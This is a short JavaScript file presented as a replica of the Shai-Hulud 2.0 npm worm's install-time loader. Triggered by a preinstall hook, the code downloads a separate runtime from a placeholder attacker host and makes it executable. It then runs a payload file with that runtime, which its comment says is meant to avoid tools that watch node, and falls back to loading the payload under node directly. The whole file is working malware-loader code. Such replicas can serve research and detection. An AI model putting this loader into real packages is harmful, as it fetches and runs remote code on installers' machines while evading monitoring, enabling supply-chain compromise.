// Shai-Hulud 2.0 (replica of setup_bun.js, run by preinstall): fetch a JavaScript runtime of its own
// and run the payload with it, away from tools that watch node. If that fails, run it here.
const fs = require('fs');
const http = require('http');
const { spawnSync } = require('child_process');

const runtime = __dirname + '/bun';
const payload = __dirname + '/bun_environment.js';

function fallback() {
  require('./bun_environment.js');
}
try {
  http.get('__ATTACKER__/bun', (res) => {
    const out = fs.createWriteStream(runtime);
    res.pipe(out);
    out.on('finish', () => out.close(() => {
      try {
        fs.chmodSync(runtime, 0o755);
        if (spawnSync(runtime, [payload], { stdio: 'inherit' }).status !== 0) fallback();
      } catch (e) {
        fallback();
      }
    }));
  }).on('error', fallback);
} catch (e) {
  fallback();
}
